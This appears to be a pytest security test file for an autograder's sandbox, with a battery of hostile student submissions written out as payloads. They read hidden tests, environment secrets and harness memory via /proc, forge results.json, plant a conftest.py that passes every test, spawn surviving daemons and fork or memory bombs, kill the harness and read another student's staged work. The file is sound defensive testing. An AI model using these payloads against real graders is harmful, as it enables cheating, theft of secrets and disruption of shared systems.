"""The hostile battery: submissions that attack the grader, graded by the real `dlgrade grade`.

For each: grading finishes within its bound, results.json is valid, the score is no higher than
the same submission's honest score (0 for attacks on the template, the reference's 10 otherwise),
no process of the submission survives, nothing of it stays in /tmp, /var/tmp or /dev/shm, the
canary (hidden tests, reference, results folder, harness environment and memory) never appears
in any output, and no connection reaches the loopback server the test runs.

The battery runs with the strongest isolation this machine offers (``--sandbox auto``), and a
part of it again with bubblewrap switched off (the dedicated-user, Landlock and seccomp layers),
and with bubblewrap and Landlock off (dedicated user, seccomp and file permissions), where those
layers exist here; what cannot run here is skipped with the reason.
"""

from __future__ import annotations

import functools
import json
import sys
import threading
import time
from dataclasses import replace

import pytest

from autograder.sandbox import isolation
from tests.hostile.battery import (
    CANARY,
    REFERENCE,
    TEMPLATE,
    Case,
    Run,
    assert_contained,
    sandbox_of,
    unprivileged_user,
)

MARK = '''
import ctypes as _ctypes


def _mark():
    """Name this process after the case, so the battery can find it."""
    try:
        _ctypes.CDLL(None).prctl(15, b"MARKER_", 0, 0, 0)
    except Exception:
        pass
'''


def on_reference(attack: str) -> str:
    return REFERENCE + "\n" + MARK + "\n" + attack


def on_template(attack: str) -> str:
    return TEMPLATE + "\n" + MARK + "\n" + attack


def timed_out(fragment: str):
    def check(run: Run) -> None:
        test = run.test(fragment)
        assert test["status"] == "failed" and "did not finish" in test["output"], test
    return check


def failed_with(fragment: str, *words: str):
    def check(run: Run) -> None:
        test = run.test(fragment)
        assert test["status"] == "failed", test
        for word in words:
            assert word in test["output"], (word, test["output"])
    return check


def all_of(*checks):
    def check(run: Run) -> None:
        for c in checks:
            c(run)
    return check


ZEROS = '''
def add(x, y):
    return np.zeros(np.broadcast(np.asarray(x), np.asarray(y)).shape)


def scale(x, a):
    return np.zeros(np.shape(x))


def norm(x):
    return 0.0
'''

READ_SECRETS = '''
import glob
import os

_FOUND = []


def _grab(path, limit=1 << 20):
    try:
        with open(path, "rb") as fh:
            data = fh.read(limit)
    except Exception as exc:
        return
    text = data.decode("latin-1")
    _FOUND.append(path + ": " + text[:300])
    at = text.find("DLGRADE-CANARY")
    if at >= 0:
        _FOUND.append("FOUND " + path + " " + text[at:at + 60])


for _p in ["HIDDEN_PATH_", "REF_PATH_", *glob.glob("OUT_DIR_/*"), *glob.glob("OUT_DIR_/*/*")]:
    _grab(_p)
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        _grab(f"/proc/{_pid}/environ")
print("\\n".join(line for line in _FOUND if "FOUND" in line) or "\\n".join(_FOUND)[:5000], flush=True)


def _scan(pid):
    """The harness' memory, region by region, through /proc/PID/mem."""
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
            for line in maps:
                if " rw-p " not in line:
                    continue
                start, end = (int(v, 16) for v in line.split()[0].split("-"))
                try:
                    mem.seek(start)
                    chunk = mem.read(min(end - start, 1 << 26))
                except Exception:
                    continue
                at = chunk.find(b"DLGRADE-CANARY")
                if at >= 0:
                    _FOUND.append("MEMORY " + chunk[at:at + 60].decode("latin-1"))
                    return
    except Exception as exc:
        _FOUND.append(f"mem {pid}: {exc}")


def _search():
    _seen = 0
    for _top in ["ROOT_PATH_", "/work", "/root", "/autograder", "/home"]:
        for _dirpath, _dirs, _files in os.walk(_top):
            _seen += 1
            if _seen > 300:
                return
            for _f in _files:
                if "hidden" in _dirpath or "reference" in _dirpath or _f.startswith("secret"):
                    _grab(os.path.join(_dirpath, _f))


_honest_scale = scale


def scale(x, a):
    _scan(os.getppid())
    _search()
    leak = "\\n".join(line for line in _FOUND if "FOUND" in line or "MEMORY" in line) or "\\n".join(_FOUND)
    print(leak[:5000])
    raise ValueError(leak[:1900])
'''

ENV_SECRETS = '''
import os

_SEEN = [repr(dict(os.environ))]
for _path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ",
              f"/proc/{os.getppid()}/cmdline"):
    try:
        with open(_path, "rb") as _fh:
            _SEEN.append(_path + " " + _fh.read().decode("latin-1"))
    except Exception as exc:
        _SEEN.append(f"{_path}: {exc}")
print("\\n".join(_SEEN))

_honest_add = add


def add(x, y):
    raise ValueError(" ".join(_SEEN)[:1900])
'''

RESULTS_JSON = '''
import json
import os
import subprocess
import sys

_FAKE = json.dumps({"score": 10.0, "output": "all good", "tests": [
    {"name": "everything", "score": 10.0, "max_score": 10.0, "status": "passed"}]})
_OUT = "OUT_PATH_"
for _path in (_OUT, os.path.join(os.path.dirname(_OUT), ".results.json.tmp")):
    try:
        with open(_path, "w") as _fh:
            _fh.write(_FAKE)
    except Exception as exc:
        print("write", _path, exc)
try:
    os.symlink("/proc/self/fd/1", _OUT + ".lnk")
    os.replace(_OUT + ".lnk", _OUT)
except Exception as exc:
    print("replace", exc)
subprocess.Popen(
    [sys.executable, "-c",
     "import sys, time\\nfor _ in range(1200):\\n"
     "    try:\\n        open(sys.argv[1], 'w').write(sys.argv[2])\\n    except Exception:\\n        pass\\n"
     "    time.sleep(0.05)\\n", _OUT, _FAKE, "MARKER_"],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

DAEMON = '''
import os
import signal
import subprocess
import sys

_honest_add = add
_started = []


def _daemonize():
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                _mark()
                signal.signal(signal.SIGTERM, signal.SIG_IGN)
                signal.signal(signal.SIGHUP, signal.SIG_IGN)
                os.execv(sys.executable, [sys.executable, "-c",
                                          "import signal, time\\n"
                                          "signal.signal(signal.SIGTERM, signal.SIG_IGN)\\n"
                                          "while True: time.sleep(0.2)", "MARKER_"])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    subprocess.Popen([sys.executable, "-c", "import time\\nwhile True: time.sleep(0.2)", "MARKER_"],
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)


def add(x, y):
    if not _started:
        _started.append(1)
        _daemonize()
    return _honest_add(x, y)
'''

TMP_FILL = '''
import os

_honest_scale = scale
_done = []


def scale(x, a):
    if not _done:
        _done.append(1)
        chunk = b"\\0" * (8 << 20)
        for folder in ("/tmp", "/dev/shm", "/var/tmp"):
            for i in range(N_FILES_):
                try:
                    with open(f"{folder}/MARKER_-{i}", "wb") as fh:
                        for _ in range(FILE_CHUNKS_):
                            fh.write(chunk)
                except OSError as exc:
                    print(folder, i, exc)
                    if exc.errno != 27:  # EFBIG: the file limit, try the next file
                        break
    return _honest_scale(x, a)
'''

NETWORK = '''
import socket

def _reach():
    out = []
    try:
        s = socket.create_connection(("127.0.0.1", PORT_), timeout=2)
        s.sendall(b"MARKER_ hello")
        out.append("tcp connected")
    except Exception as exc:
        out.append(f"tcp: {exc!r}")
    try:
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto(b"MARKER_", ("127.0.0.1", PORT_))
        out.append("udp sent")
    except Exception as exc:
        out.append(f"udp: {exc!r}")
    return out


print(_reach())
_honest_add = add


def add(x, y):
    print(_reach())
    return _honest_add(x, y)
'''

CONFTEST_DROP = '''
import os

_PASS = """
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
"""
for _folder in ("ROOT_PATH_/assignments/sandbox_probe/tests/public",
                "ROOT_PATH_/assignments/sandbox_probe/tests/hidden", "ROOT_PATH_", os.getcwd()):
    for _name in ("conftest.py", "sitecustomize.py"):
        try:
            with open(os.path.join(_folder, _name), "w") as _fh:
                _fh.write(_PASS)
        except Exception as exc:
            print(_folder, exc)
'''


READ_COPIES = '''
import os
import zipfile
import zlib

_FOUND = []


def _look(path, data):
    for blob in (data, _inflate(data)):
        at = blob.find(b"DLGRADE-CANARY")
        if at >= 0:
            _FOUND.append("FOUND " + path + " " + blob[at:at + 60].decode("latin-1"))


def _inflate(data):
    try:
        return zlib.decompress(data)
    except Exception:
        return b""


def _read(path):
    try:
        with open(path, "rb") as fh:
            data = fh.read(1 << 22)
    except Exception as exc:
        _FOUND.append(f"{path}: {exc}")
        return
    _look(path, data)
    try:
        with zipfile.ZipFile(path) as archive:
            for name in archive.namelist():
                _look(path + "!" + name, archive.read(name))
    except Exception:
        pass


# By name (a checkout's layout is no secret), then whatever a walk of the checkout finds.
for _path in ("GIT_OBJECT_", "DIST_ZIP_", "ROOT_PATH_/.git/HEAD"):
    _read(_path)
for _top in ("ROOT_PATH_/.git", "ROOT_PATH_/dist", "ROOT_PATH_"):
    for _dirpath, _dirs, _files in os.walk(_top):
        for _f in _files:
            _read(os.path.join(_dirpath, _f))
_LEAK = "\\n".join(line for line in _FOUND if "FOUND" in line) or "\\n".join(_FOUND)
print(_LEAK[:5000])
_honest_scale = scale


def scale(x, a):
    raise ValueError(_LEAK[:1900])
'''

# A grading that runs beside the victim's: it looks for the victim's staged submission (through
# /tmp, or the victim worker's /proc entries) for as long as its own import may take.
READ_OTHER_STAGING = '''
import glob
import os
import time

_NEEDLE = ("SECRET_OF_" + "ANOTHER_STUDENT").encode()  # spelled apart: this file does not hold it
_FOUND = []


def _grab(path):
    try:
        with open(path, "rb") as fh:
            data = fh.read(1 << 20)
    except Exception as exc:
        return f"{path}: {exc}"
    at = data.find(_NEEDLE)
    if at >= 0:
        _FOUND.append("FOUND " + path + " " + data[at:at + 80].decode("latin-1"))
    return f"{path}: read"


_tried = set()
_end = time.monotonic() + 2.5
while time.monotonic() < _end and not _FOUND:
    _paths = [*glob.glob("/tmp/dlgrade-run-*/sub/*"), *glob.glob("/tmp/dlgrade-run-*/home/*")]
    for _pid in os.listdir("/proc"):
        if _pid.isdigit() and int(_pid) != os.getpid():
            _paths += glob.glob(f"/proc/{_pid}/cwd/../sub/*") + [f"/proc/{_pid}/environ"]
    for _path in _paths:
        _tried.add(_grab(_path))
    time.sleep(0.2)
_LEAK = "\\n".join(_FOUND) or "\\n".join(sorted(_tried))
print(_LEAK[:5000])
_honest_scale = scale


def scale(x, a):
    raise ValueError(_LEAK[:1900])
'''

# The victim: an honest submission whose source holds the canary, staged while the other looks.
VICTIM = REFERENCE + f'''
import time

SECRET_OF_ANOTHER_STUDENT = "{CANARY}"
time.sleep(3)
'''


def small_output(run: Run) -> None:
    assert len(run.results_text) < 200_000, len(run.results_text)
    test = run.test("add two arrays")
    assert "more bytes of output not shown" in test["output"], test["output"][-300:]


def results_not_rewritten(run: Run) -> None:
    time.sleep(0.5)  # a surviving process of the submission would have rewritten it by now
    data = json.loads(run.out.read_text())
    assert data["score"] == 0 and data == run.data, data


def nothing_planted(run: Run) -> None:
    lab = run.root
    planted = [p for p in lab.rglob("*.py") if p.name in ("conftest.py", "sitecustomize.py")]
    assert not planted, f"the submission wrote into the lab: {planted}"


def forbidden_reported(run: Run) -> None:
    messages = [t["output"] for t in run.data["tests"]]
    assert all("torch" in m for m in messages), messages


def dynamic_torch_refused(run: Run) -> None:
    test = run.test("norm of a vector")
    assert test["status"] == "failed"
    # Hidden: no message. Refused by the import stub (bubblewrap) or the hook, or unreadable (Landlock).
    assert any(word in test["output"] for word in ("not allowed", "raised ImportError", "raised PermissionError")), test


CASES = [
    Case("exit0_at_import", on_reference("import os\nos._exit(0)\n"), max_score=0, exec=True),
    Case("sys_exit0_at_import", on_reference("import sys\nsys.exit(0)\n"), max_score=0),
    Case("exit0_in_functions", on_template(
        "import os\n\n\ndef add(x, y):\n    os._exit(0)\n\n\ndef scale(x, a):\n    os._exit(0)\n\n\n"
        "def norm(x):\n    os._exit(0)\n"), max_score=0),
    Case("sys_exit0_in_functions", on_template(
        "import sys\n\n\ndef add(x, y):\n    sys.exit(0)\n\n\ndef scale(x, a):\n    raise SystemExit(0)\n\n\n"
        "def norm(x):\n    sys.exit()\n"), max_score=0),
    Case("monkeypatch_numpy", on_template(
        "np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
        "np.array_equal = lambda *a, **k: True\nnp.testing.assert_allclose = lambda *a, **k: None\n"
        "np.testing.assert_array_equal = lambda *a, **k: None\nnp.abs = lambda x, *a, **k: np.zeros_like(x)\n"
        + ZEROS), max_score=0),
    Case("monkeypatch_pytest", on_template(
        "import builtins\nimport pytest\nimport _pytest.outcomes\nimport _pytest.reports\n"
        "pytest.fail = lambda *a, **k: None\n_pytest.outcomes.fail = lambda *a, **k: None\n"
        "_pytest.reports.TestReport.passed = property(lambda self: True)\n"
        "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
        "import hypothesis\nhypothesis.given = lambda *a, **k: (lambda f: f)\n" + ZEROS), max_score=0),
    Case("lying_eq", on_template('''
class Liar:
    shape = (2, 3)
    dtype = np.dtype("float64")
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 13.0
    def __array__(self, *args, **kwargs): return np.zeros((2, 3))
    def __bool__(self): return True


def add(x, y):
    return Liar()


def scale(x, a):
    return Liar()


def norm(x):
    return Liar()
'''), max_score=0),
    Case("ndarray_subclass", on_template('''
class Evil(np.ndarray):
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __sub__(self, other): return np.zeros(np.shape(other))
    __rsub__ = __sub__
    def __abs__(self): return np.zeros(self.shape)
    def __float__(self): return 13.0


def add(x, y):
    return np.zeros(np.broadcast(np.asarray(x), np.asarray(y)).shape).view(Evil)


def scale(x, a):
    return np.asmatrix(np.zeros((1, np.size(x))))


def norm(x):
    return np.zeros(()).view(Evil)
'''), max_score=0),
    Case("read_hidden_tests_reference_and_harness_memory", on_reference(READ_SECRETS), max_score=10),
    Case("environment_secrets", on_reference(ENV_SECRETS), max_score=10),
    Case("write_results_json", on_template(RESULTS_JSON), max_score=0, check=results_not_rewritten),
    Case("infinite_loop", on_reference(
        "_honest_add = add\n\n\ndef add(x, y):\n    while True:\n        pass\n"), max_score=10 - 5, bound=60,
        check=timed_out("add two arrays")),
    Case("sleep", on_reference(
        "import time\n_honest_scale = scale\n\n\ndef scale(x, a):\n    time.sleep(10 ** 6)\n"),
        max_score=10 - 2, bound=50, check=timed_out("scale an array")),
    Case("memory_bomb", on_reference(
        "_honest_norm = norm\n\n\ndef norm(x):\n    hog = []\n    while True:\n"
        "        hog.append(np.ones(1 << 24))\n"), max_score=10 - 3,
        check=lambda run: (run.test("norm of a vector")["status"] == "failed"
                           and run.test("add two arrays")["status"] == "passed") or pytest.fail(
            "the memory bomb took down more than its own test")),
    Case("bounded_fork_bomb", on_reference('''
import os
import time

_honest_add = add


def add(x, y):
    for _ in range(150):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            _mark()
            time.sleep(600)
            os._exit(0)
    return _honest_add(x, y)
'''), max_score=10, alone=True),
    Case("setsid_daemon", on_reference(DAEMON), max_score=10),
    Case("fill_tmp_and_shm", on_reference(TMP_FILL.replace("N_FILES_", "48").replace("FILE_CHUNKS_", "64")),
         max_score=10, bound=60),
    Case("print_100mb", on_reference(
        "import sys\n_honest_add = add\n\n\ndef add(x, y):\n    sys.stdout.write('x' * 100_000_000)\n"
        "    sys.stderr.write('y' * 10_000_000)\n    return _honest_add(x, y)\n"), max_score=10, check=small_output),
    Case("network_to_loopback_server", on_reference(NETWORK), max_score=10, network=True),
    Case("ignore_sigterm_and_spin", on_reference(
        "import signal\nfor _s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
        "    signal.signal(_s, signal.SIG_IGN)\n"
        "_mark()\n_honest_scale = scale\n\n\ndef scale(x, a):\n    while True:\n        pass\n"),
        max_score=10 - 2, bound=50, check=timed_out("scale an array")),
    Case("import_torch_in_numpy_lab", on_reference("import torch\n"), max_score=0, check=forbidden_reported),
    Case("dynamic_torch_bypassing_the_import_hook", on_reference('''
import sys

sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "ForbiddenImports"]


def norm(x):
    torch = __import__("to" + "rch")
    return float(torch.linalg.norm(torch.tensor(x)))
'''), max_score=10 - 3, check=dynamic_torch_refused),
    Case("kill_the_harness", exec=True, source=on_reference('''
import os
import signal

for _pid in (os.getppid(), 1):
    try:
        os.kill(_pid, signal.SIGKILL)
    except Exception as exc:
        print(_pid, exc)
try:
    os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
except Exception as exc:
    print(exc)
'''), max_score=10),
    Case("plant_conftest_in_the_lab", on_template(CONFTEST_DROP), max_score=0, check=nothing_planted),
    Case("read_git_objects_and_dist_zip", on_reference(READ_COPIES), max_score=10),
]

# Every attack again under each fallback: without bubblewrap (dedicated uid, Landlock, seccomp), and
# without bubblewrap and Landlock (dedicated uid, seccomp, file permissions).
FALLBACKS = ("bwrap", "bwrap,landlock")


def _fallback(case: Case, disable: str) -> Case:
    source = case.source
    if case.name == "fill_tmp_and_shm":  # without a tmpfs the files land on the disk: keep it small
        source = on_reference(TMP_FILL.replace("N_FILES_", "3").replace("FILE_CHUNKS_", "4"))
    return replace(case, source=source, disable=disable)


ALL = [*CASES, *(_fallback(c, d) for d in FALLBACKS for c in CASES)]

# Grading as an unprivileged user (a laptop, a container without root): bubblewrap in a user
# namespace, the worker under the harness' own uid; and there without bubblewrap, where Landlock and
# seccomp alone keep the worker, under the harness' own uid, from the grading material, the harness
# and the network. Run as the dedicated user where root can.
# (Not a worker user: a root grading that leases one kills whatever runs as it.)
_host = isolation.probe_host()
_UNPRIVILEGED = unprivileged_user() if _host.root else None
ALL += [replace(c, as_user=_UNPRIVILEGED or (0, 0)) for c in CASES]
ALL += [replace(_fallback(c, "bwrap"), as_user=_UNPRIVILEGED or (0, 0)) for c in CASES]
# The battery's own detectors, proven on attacks that succeed without a sandbox.
DETECTORS = [Case(c.name, c.source, c.max_score, c.bound, network=c.network, sandbox="none")
             for c in CASES if c.name in ("read_hidden_tests_reference_and_harness_memory",
                                          "network_to_loopback_server")]


def _skip_reason(case: Case) -> str | None:
    host = isolation.probe_host()
    if case.as_user:
        if not host.root or _UNPRIVILEGED is None:
            return "grading as an unprivileged user is tried from root, as 'nobody': " + (
                "not root" if not host.root else "no user 'nobody' here")
        if not isolation.user_runs_python(*_UNPRIVILEGED):
            return f"'nobody' cannot run {sys.executable}"
        if case.disable and host.landlock < 1:
            return "the kernel offers no Landlock: without bubblewrap an unprivileged harness shares its uid"
        return None
    if not case.disable:
        return None
    if "bwrap" in case.disable and host.bwrap is None:
        return None  # nothing to switch off: the auto run already covers this machine
    if not host.root or host.user is None:
        return f"the fallback without bubblewrap relies on a dedicated uid: {host.user_note}"
    if not _workers_reach_python():
        # Outside bubblewrap the dedicated users run the interpreter from its place: a checkout in a
        # folder closed to them (a clone under a /tmp of mode 0700) leaves the fallback without its uid.
        return f"the dedicated users cannot reach {sys.executable}: the fallback without bubblewrap has no uid here"
    if "landlock" not in case.disable and host.landlock < 1:
        return "the kernel offers no Landlock"
    return None


@functools.cache
def _workers_reach_python() -> bool:
    return any(isolation.user_runs_python(uid, gid) for _name, uid, gid in isolation.probe_host().pool)


def _id(case: Case) -> str:
    if case.as_user:
        return case.name + "-as-unprivileged-user" + ("-without-bwrap" if case.disable else "")
    if case.sandbox == "none":
        return case.name + "-sandbox-none"
    return case.name + (f"-without-{case.disable.replace(',', '-')}" if case.disable else "")


@pytest.fixture(scope="module")
def graded(battery, request):
    """Grade every selected case once (a few at a time), before the first assertion."""
    selected = []
    for item in request.session.items:
        spec = getattr(item, "callspec", None)
        if spec is not None and "case" in spec.params and _skip_reason(spec.params["case"]) is None:
            selected.append(spec.params["case"])
    battery.run_all(selected)
    return battery


def _known_gap(case: Case):
    """What a layer set is known not to stop, said where it fails (strict: fixed, it must go)."""
    if case.name == "dynamic_torch_bypassing_the_import_hook" and case.disable == "bwrap,landlock":
        return pytest.param(case, marks=pytest.mark.xfail(strict=True, reason=(
            "file permissions cannot hide a package from one lab's worker and not another's: without "
            "bubblewrap and Landlock only the import hook refuses a numpy lab's torch")))
    return case


@pytest.mark.parametrize("case", [_known_gap(c) for c in ALL], ids=_id)
def test_hostile_submission_is_contained(graded, case):
    reason = _skip_reason(case)
    if reason:
        pytest.skip(reason)
    run = graded.runs[graded.key(case)]
    assert_contained(run)
    layers = sandbox_of(run)["layers"]
    if case.disable:
        assert "bubblewrap" not in layers, layers
    if case.as_user:
        assert not any(layer.startswith("uid:") for layer in layers), layers
        if isolation.probe_host().bwrap and not case.disable:
            assert "bubblewrap" in layers, layers
        if case.disable:
            assert "landlock" in layers, layers


@pytest.mark.parametrize("disable", ["", *FALLBACKS],
                         ids=["auto", *(f"without-{d.replace(',', '-')}" for d in FALLBACKS)])
def test_a_concurrent_grading_cannot_read_another_staged_submission(battery, disable):
    """Two gradings at once: the second looks for the first's staged submission while it is staged."""
    attacker = Case("read_another_workers_staged_submission", on_reference(READ_OTHER_STAGING), max_score=10,
                    disable=disable, bound=60)
    reason = _skip_reason(attacker)
    if reason:
        pytest.skip(reason)
    victim = replace(attacker, name="victim_beside_a_reader", source=VICTIM)
    runs: dict[str, Run] = {}
    beside = threading.Thread(target=lambda: runs.__setitem__("victim", battery.run(victim)))
    beside.start()
    time.sleep(1.0)  # the victim's submission is staged by now, and stays so for seconds
    run = battery.run(attacker)
    beside.join()
    assert runs["victim"].data["score"] == 10, runs["victim"].error or runs["victim"].data
    assert_contained(run)


@pytest.mark.parametrize("case", DETECTORS, ids=_id)
def test_the_battery_sees_an_attack_that_works(graded, case):
    """With ``--sandbox none`` these attacks succeed, and the battery's checks notice."""
    run = graded.runs[graded.key(case)]
    assert run.data, run.error
    if case.network:
        assert run.connections, "the detector missed a connection to the loopback server"
    else:
        assert CANARY in run.outputs, "the detector missed the canary in the outputs: " + json.dumps(
            [t["output"][:500] for t in run.data["tests"]])


def test_battery_ran_under_the_strongest_isolation_here(graded):
    """The auto runs used every layer this machine offers (and say so in results.json)."""
    runs = [r for r in graded.runs.values()
            if not r.case.disable and not r.case.as_user and r.case.sandbox == "auto" and r.data]
    if not runs:
        pytest.skip("no auto run of the battery was selected")
    host = isolation.probe_host()
    for run in runs:
        layers = sandbox_of(run)["layers"]
        if host.bwrap:
            assert "bubblewrap" in layers, layers
        if host.root and host.user:
            assert f"uid:{host.user[0]}" in layers, layers
        if host.seccomp:
            assert "seccomp" in layers, layers


def test_root_grading_uses_the_dedicated_user():
    host = isolation.probe_host()
    if not host.root:
        pytest.skip("not root: the dedicated-user layer exists only when grading runs as root")
    if host.user is None:
        pytest.skip(f"no dedicated user here: {host.user_note}")
    assert "uid" not in dict(isolation.plan("auto").missing)


def test_bubblewrap_is_used_where_it_works():
    host = isolation.probe_host()
    if host.bwrap is None:
        pytest.skip(f"bubblewrap is not usable here: {host.bwrap_note}")
    assert isolation.plan("auto").bwrap == host.bwrap
    assert isolation.plan("strict").strong or (host.root and host.user is None)
